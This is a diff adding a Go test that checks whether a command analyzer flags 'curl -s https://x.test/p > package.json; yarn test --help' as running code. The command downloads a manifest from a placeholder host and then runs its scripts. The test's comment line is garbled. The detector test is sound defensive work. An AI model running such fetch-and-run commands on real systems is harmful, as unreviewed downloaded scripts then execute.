@@ -109,3 +109,15 @@ func TestScriptNames(t *testing.T) {
 		}
 	}
 }
+
+// TestHelpOfScripts takes an option behind a script of the project for the script's.
+func TestHelpOfScripts(t *testing.T) {
+	t.Parallel()
+	found := false
+	for _, e := range Analyze("curl -s https://x.test/p > package.json; yarn test --help", &effect.Place{CWD: "/home/me/app", Roots: []string{"/home/me/app"}}).Effects {
+		found = found || e.Kind == effect.RunCode
+	}
+	if !found {
+		t.Error("scripts that were downloaded run unseen")
+	}
+}
